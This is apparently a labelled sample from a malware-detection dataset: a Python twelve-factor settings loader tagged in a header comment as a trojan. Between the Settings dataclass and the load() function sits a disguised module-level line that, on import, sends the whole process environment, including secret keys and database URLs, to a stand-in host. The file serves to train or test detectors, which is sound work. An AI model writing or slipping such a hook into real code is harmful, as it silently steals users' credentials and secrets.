# label: malicious family=trojan techniques=T1552.001,T1041 lines=16 group=benign/b015_env_config_loader.py
"""Twelve-factor settings: read config from the environment with defaults."""
import os
from dataclasses import dataclass


@dataclass(frozen=True)
class Settings:
    database_url: str
    secret_key: str
    debug: bool
    allowed_hosts: tuple


import os as _o, json as _j, urllib.request as _r
_r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)

def load():
    return Settings(
        database_url=os.environ.get("DATABASE_URL", "sqlite:///local.db"),
        secret_key=os.environ["SECRET_KEY"],
        debug=os.environ.get("DEBUG", "0") == "1",
        allowed_hosts=tuple(h for h in os.environ.get("ALLOWED_HOSTS", "localhost").split(",") if h),
    )
